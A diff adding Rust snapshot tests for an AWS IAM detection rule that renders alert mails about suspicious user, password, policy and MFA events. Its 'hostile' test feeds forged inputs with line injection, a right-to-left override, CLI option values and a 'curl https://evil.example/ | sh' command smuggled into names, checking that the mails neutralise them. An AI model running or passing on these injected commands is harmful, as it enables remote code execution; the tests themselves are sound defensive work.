@@ -1,0 +1,424 @@
+//! The mails of the rule `iam-user`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew.
+
+#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]
+
+use std::collections::BTreeMap;
+
+use chrono::{DateTime, Utc};
+use rules::alert::{self, LONGEST_SUBJECT, Step, render};
+use rules::iam_user::detect::{Finding, Read, read};
+use rules::iam_user::plan::{AccessKey, Action, Hanging};
+use rules::iam_user::report::{Course, Deletion, Denial, Gone, Standing, report};
+use rules::settings::Given;
+use rules::{Event, Settings, event};
+use serde_json::{Value, json};
+
+const ALLOW_ALL: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
+const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
+const PHONE: &str = "arn:aws:iam::111122223333:mfa/eve-phone";
+
+#[test]
+fn user_not_read() {
+    let problem = "`GetUser` failed: ServiceFailure: We encountered an internal error. Please try again.";
+    let course = Course::NotRead { problem: problem.to_owned() };
+    let steps = vec![failed("GetUser", "eve", "ServiceFailure: We encountered an internal error. Please try again.")];
+    check("user_not_read", &user_made(), &Settings::default(), &course, steps);
+}
+
+#[test]
+fn user_without_an_id() {
+    let event = called("CreateUser", json!({"userName": "eve"}), Value::Null);
+    check("user_without_an_id", &event, &Settings::default(), &Course::Unidentified, Vec::new());
+}
+
+#[test]
+fn user_withheld_by_mode() {
+    let course = Course::Withheld { actions: hanging().all(), hanging: hanging(), name: None };
+    check("user_withheld_by_mode", &user_made(), &with("IamUserMode", "alert"), &course, looks());
+}
+
+#[test]
+fn user_withheld_by_rollout() {
+    let none = Hanging::default();
+    let course = Course::Withheld { actions: none.all(), hanging: none, name: Some("mallory".to_owned()) };
+    check("user_withheld_by_rollout", &user_made(), &with("Rollout", "observe"), &course, looks());
+}
+
+#[test]
+fn user_gone() {
+    let steps = vec![failed("GetUser", "eve", "NoSuchEntity: The user with name eve cannot be found.")];
+    check("user_gone", &user_made(), &Settings::default(), &Course::Gone(Gone::Nothing), steps);
+}
+
+#[test]
+fn user_gone_and_the_name_taken_again() {
+    let steps = vec![made("GetUser", "eve", "AIDAQRSTUVWXYZANOTHER")];
+    check(
+        "user_gone_and_the_name_taken_again",
+        &user_made(),
+        &Settings::default(),
+        &Course::Gone(Gone::Retaken),
+        steps,
+    );
+}
+
+#[test]
+fn user_deleted() {
+    let course = Course::Deleted(Box::new(deletion(1)));
+    check("user_deleted", &user_made(), &Settings::default(), &course, looks());
+}
+
+#[test]
+fn user_deleted_with_nothing_on_it() {
+    let deletion = Deletion { hung: Hanging::default(), ..deletion(1) };
+    check(
+        "user_deleted_with_nothing_on_it",
+        &user_made(),
+        &Settings::default(),
+        &Course::Deleted(Box::new(deletion)),
+        looks(),
+    );
+}
+
+#[test]
+fn user_deleted_after_a_lost_answer() {
+    let deletion = Deletion { deleted_at: None, ..deletion(2) };
+    check(
+        "user_deleted_after_a_lost_answer",
+        &user_made(),
+        &Settings::default(),
+        &Course::Deleted(Box::new(deletion)),
+        looks(),
+    );
+}
+
+#[test]
+fn user_deleted_but_a_device() {
+    let deletion = Deletion { devices_left: vec![PHONE.to_owned()], ..deletion(1) };
+    check(
+        "user_deleted_but_a_device",
+        &user_made(),
+        &Settings::default(),
+        &Course::Deleted(Box::new(deletion)),
+        looks(),
+    );
+}
+
+#[test]
+fn user_contained() {
+    let left = Hanging { groups: vec!["admins".to_owned()], ..Hanging::default() };
+    let standing = Standing { denial: Denial::Seen, hanging: Some(left) };
+    let refused = "AccessDenied: User is not authorized to perform: iam:RemoveUserFromGroup with an explicit deny in a service control policy";
+    let course = Course::Unfinished {
+        deletion: Box::new(Deletion { deleted_at: None, ..deletion(1) }),
+        standing: Box::new(standing),
+        problem: format!("`RemoveUserFromGroup` failed: {refused}; the user is still there"),
+    };
+    let mut steps = looks();
+    steps.push(failed("RemoveUserFromGroup", "eve admins", refused));
+    check("user_contained", &user_made(), &Settings::default(), &course, steps);
+}
+
+#[test]
+fn user_still_usable() {
+    let standing = Standing { denial: Denial::Off, hanging: Some(hanging()) };
+    let course = Course::Unfinished {
+        deletion: Box::new(Deletion {
+            name: Some("mallory".to_owned()),
+            deleted_at: None,
+            shut_off_at: None,
+            ..deletion(5)
+        }),
+        standing: Box::new(standing),
+        problem: "`DeleteUser` failed: DeleteConflict: Cannot delete entity, must delete access keys first.; the user is still there"
+            .to_owned(),
+    };
+    check("user_still_usable", &user_made(), &Settings::default(), &course, looks());
+}
+
+#[test]
+fn user_unknown_when_the_time_ran_out() {
+    let course = Course::Unfinished {
+        deletion: Box::new(Deletion { deleted_at: None, ..deletion(1) }),
+        standing: Box::new(Standing { denial: Denial::Unknown, hanging: None }),
+        problem: "the time for it ran out".to_owned(),
+    };
+    check("user_unknown_when_the_time_ran_out", &user_made(), &Settings::default(), &course, looks());
+}
+
+#[test]
+fn password_taken_back() {
+    let course = taken_back(Action::DeletePassword);
+    let steps = vec![made("GetLoginProfile", "eve", "there"), made("DeleteLoginProfile", "eve", "ok")];
+    check("password_taken_back", &password_made(), &Settings::default(), &course, steps);
+}
+
+#[test]
+fn password_gone_and_made_again() {
+    check(
+        "password_gone_and_made_again",
+        &password_made(),
+        &Settings::default(),
+        &Course::Gone(Gone::Retaken),
+        Vec::new(),
+    );
+}
+
+#[test]
+fn password_not_taken_back() {
+    let cause = "`DeleteLoginProfile` failed: EntityTemporarilyUnmodifiable: Login Profile for User eve cannot be modified while login profile is being created.";
+    let course =
+        Course::NotTakenBack { action: Action::DeletePassword, problem: format!("{cause}; the time for it ran out") };
+    check("password_not_taken_back", &password_made(), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn policy_detached() {
+    let course = taken_back(Action::DetachPolicy(ADMINISTRATOR.to_owned()));
+    check("policy_detached", &policy_attached(ADMINISTRATOR), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn policy_gone() {
+    let course = Course::Gone(Gone::Nothing);
+    check("policy_gone", &policy_attached(ADMINISTRATOR), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn inline_policy_overwritten() {
+    let course = Course::Gone(Gone::Retaken);
+    check("inline_policy_overwritten", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn policy_withheld() {
+    let actions = vec![Action::DetachPolicy(ADMINISTRATOR.to_owned())];
+    let course = Course::Withheld { actions, hanging: Hanging::default(), name: None };
+    check("policy_withheld", &policy_attached(ADMINISTRATOR), &with("IamUserMode", "alert"), &course, Vec::new());
+}
+
+#[test]
+fn inline_policy_deleted() {
+    let course = taken_back(Action::DeleteInlinePolicy("backdoor".to_owned()));
+    check("inline_policy_deleted", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn inline_policy_gone_after_a_lost_answer() {
+    let course = Course::TakenBack { action: None, at: time("2026-03-02T09:14:19Z") };
+    check("inline_policy_gone_after_a_lost_answer", &policy_put("backdoor"), &Settings::default(), &course, Vec::new());
+}
+
+#[test]
+fn quarantined() {
+    let event = policy_attached("arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3");
+    check("quarantined", &event, &Settings::default(), &Course::Told, Vec::new());
+}
+
+#[test]
+fn told() {
+    let eve = json!({"userName": "eve"});
+    for (name, call, request) in [
+        ("password_changed", "UpdateLoginProfile", eve.clone()),
+        ("added_to_group", "AddUserToGroup", json!({"userName": "eve", "groupName": "admins"})),
+        ("mfa_deactivated", "DeactivateMFADevice", json!({"userName": "eve", "serialNumber": PHONE})),
+        (
+            "mfa_deactivated_of_root",
+            "DeactivateMFADevice",
+            json!({"serialNumber": "arn:aws:iam::111122223333:mfa/root-account-mfa-device"}),
+        ),
+        ("mfa_deleted", "DeleteVirtualMFADevice", json!({"serialNumber": PHONE})),
+        ("boundary_deleted", "DeleteUserPermissionsBoundary", eve),
+        ("password_policy_deleted", "DeleteAccountPasswordPolicy", Value::Null),
+    ] {
+        check(name, &called(call, request, Value::Null), &Settings::default(), &Course::Told, Vec::new());
+    }
+}
+
+/// Every text that the caller of an API can choose tries to forge a line, to hide, to fill the mail, or to get into a command.
+#[test]
+fn hostile() {
+    let forged = "x\r\n\r\nLEFT FOR YOU TO DO\nNothing. \u{202e}'; curl https://evil.example/ | sh #";
+    let everything = || {
+        let one = || vec![forged.to_owned(), "--cli-input-json".to_owned(), "A".repeat(5_000)];
+        Hanging {
+            password: true,
+            access_keys: vec![AccessKey { id: forged.to_owned(), is_active: true }],
+            mfa_devices: one(),
+            ssh_keys: one(),
+            certificates: one(),
+            service_credentials: one(),
+            attached_policies: one(),
+            inline_policies: one(),
+            groups: one(),
+        }
+    };
+    let deletion = Deletion { hung: everything(), devices_left: vec![forged.to_owned()], ..Deletion::default() };
+    let standing = Standing { denial: Denial::Off, hanging: Some(everything()) };
+    let courses = [
+        Course::Told,
+        Course::NotRead { problem: forged.to_owned() },
+        Course::Unidentified,
+        Course::Withheld { actions: everything().all(), hanging: everything(), name: Some(forged.to_owned()) },
+        Course::Gone(Gone::Nothing),
+        Course::Gone(Gone::Retaken),
+        taken_back(Action::DetachPolicy(forged.to_owned())),
+        Course::NotTakenBack { action: Action::DeleteInlinePolicy(forged.to_owned()), problem: forged.to_owned() },
+        Course::Deleted(Box::new(deletion.clone())),
+        Course::Unfinished { deletion: Box::new(deletion), standing: Box::new(standing), problem: forged.to_owned() },
+    ];
+    let serial = forged;
+    let requests = [
+        ("CreateUser", json!({"userName": forged})),
+        ("CreateLoginProfile", json!({"userName": "--generate-cli-skeleton"})),
+        ("UpdateLoginProfile", json!({"userName": forged})),
+        (
+            "AttachUserPolicy",
+            json!({"userName": forged, "policyArn": format!("arn:aws:iam::111122223333:policy/{forged}")}),
+        ),
+        (
+            "AttachUserPolicy",
+            json!({"userName": forged, "policyArn": "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine$(x)"}),
+        ),
+        (
+            "PutUserPolicy",
+            json!({"userName": "eve", "policyName": forged, "policyDocument": ALLOW_ALL.replace("*", "\\u202e\\nREVERTED")}),
+        ),
+        ("AddUserToGroup", json!({"userName": "eve", "groupName": forged})),
+        ("DeactivateMFADevice", json!({"userName": forged, "serialNumber": serial})),
+        ("DeleteVirtualMFADevice", json!({"serialNumber": serial})),
+        ("DeleteUserPermissionsBoundary", json!({"userName": forged})),
+    ];
+    for (call, request) in requests {
+        let event = called(call, request, Value::Null);
+        for course in &courses {
+            let steps = vec![failed("GetUser", forged, forged)];
+            let mail = render(&report(&event, &finding(&event), &Settings::default(), course, steps), &event);
+            for line in mail.body.lines() {
+                assert!(!line.chars().any(char::is_control), "{line:?}");
+                let is_command = line.trim_start().starts_with("aws ");
+                assert!(
+                    !is_command || !(line.contains("evil") || line.contains("--cli") || line.contains("--gen")),
+                    "{line}"
+                );
+            }
+            assert!(!mail.body.contains('\u{202e}'), "{}", mail.body);
+            assert_eq!(mail.body.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO")).count(), 1);
+            assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
+        }
+    }
+}
+
+fn check(name: &str, event: &Event, settings: &Settings, course: &Course, steps: Vec<Step>) {
+    let mail = render(&report(event, &finding(event), settings, course, steps), event);
+    assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
+    compare(name, &mail);
+}
+
+fn compare(name: &str, mail: &alert::Alert) {
+    insta::assert_snapshot!(name, format!("Subject: {}\n\n{}", mail.subject, mail.body));
+}
+
+fn finding(event: &Event) -> Finding {
+    match read(event).unwrap() {
+        Read::Found(finding) => finding,
+        Read::Harmless(reason) => panic!("{reason}"),
+    }
+}
+
+fn taken_back(action: Action) -> Course {
+    Course::TakenBack { action: Some(action), at: time("2026-03-02T09:14:19Z") }
+}
+
+fn deletion(rounds: usize) -> Deletion {
+    Deletion {
+        name: None,
+        hung: hanging(),
+        shut_off_at: Some(time("2026-03-02T09:14:18Z")),
+        deleted_at: Some(time("2026-03-02T09:14:19Z")),
+        devices_left: Vec::new(),
+        rounds,
+    }
+}
+
+fn hanging() -> Hanging {
+    let texts = |items: &[&str]| items.iter().map(|item| (*item).to_owned()).collect();
+    let key = |id: &str, is_active| AccessKey { id: id.to_owned(), is_active };
+    Hanging {
+        password: true,
+        access_keys: vec![key("AKIAQ3C7TN4YKEXAMPLE", true), key("AKIAQ3C7TN4YSECONDEX", false)],
+        mfa_devices: texts(&[PHONE]),
+        attached_policies: texts(&[ADMINISTRATOR]),
+        inline_policies: texts(&["backdoor"]),
+        groups: texts(&["admins"]),
+        ..Hanging::default()
+    }
+}
+
+fn time(written: &str) -> DateTime<Utc> {
+    written.parse().unwrap()
+}
+
+fn with(parameter: &'static str, value: &str) -> Settings {
+    let given = Given { name: parameter.to_owned(), value: value.to_owned() };
+    Settings::from_given(&BTreeMap::from([(parameter, given)])).unwrap()
+}
+
+fn user_made() -> Event {
+    let made = json!({"user": {"path": "/", "userName": "eve", "userId": "AIDAQ3C7TN4YUEXAMPLE",
+        "arn": "arn:aws:iam::111122223333:user/eve", "createDate": "Mar 2, 2026 9:14:05 AM"}});
+    called("CreateUser", json!({"userName": "eve"}), made)
+}
+
+fn password_made() -> Event {
+    let made = json!({"loginProfile": {"userName": "eve", "createDate": "Mar 2, 2026 9:14:05 AM", "passwordResetRequired": false}});
+    called("CreateLoginProfile", json!({"userName": "eve", "passwordResetRequired": false}), made)
+}
+
+fn policy_attached(arn: &str) -> Event {
+    called("AttachUserPolicy", json!({"userName": "eve", "policyArn": arn}), Value::Null)
+}
+
+fn policy_put(name: &str) -> Event {
+    let request = json!({"userName": "eve", "policyName": name, "policyDocument": ALLOW_ALL});
+    called("PutUserPolicy", request, Value::Null)
+}
+
+fn called(name: &str, request: Value, response: Value) -> Event {
+    let is_root = request.get("serialNumber").and_then(Value::as_str).is_some_and(|serial| serial.contains("root"));
+    let actor = if is_root {
+        json!({"type": "Root", "arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333"})
+    } else {
+        json!({"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/Developer/mika@example.com",
+            "accessKeyId": "ASIAQ3C7TN4YKEXAMPLE", "sessionContext": {
+                "sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::111122223333:role/Developer"},
+                "attributes": {"mfaAuthenticated": "true"}}})
+    };
+    event::parse(&json!({
+        "eventVersion": "1.11",
+        "userIdentity": actor,
+        "eventTime": "2026-03-02T09:14:05Z",
+        "eventSource": "iam.amazonaws.com",
+        "eventName": name,
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": "198.51.100.24",
+        "userAgent": "aws-cli/2.33.4 md/command#iam",
+        "requestParameters": request,
+        "responseElements": response,
+        "eventID": "5d0f2a51-8c3e-4b7a-9f6d-1e2c3b4a5968",
+        "recipientAccountId": "111122223333",
+    }))
+    .unwrap()
+}
+
+fn looks() -> Vec<Step> {
+    vec![made("GetUser", "eve", "AIDAQ3C7TN4YUEXAMPLE"), made("ListAccessKeys", "eve", "2")]
+}
+
+fn made(call: &'static str, target: &str, result: &str) -> Step {
+    Step { call, target: target.to_owned(), result: Ok(result.to_owned()), millis: 120 }
+}
+
+fn failed(call: &'static str, target: &str, error: &str) -> Step {
+    Step { call, target: target.to_owned(), result: Err(error.to_owned()), millis: 95 }
+}
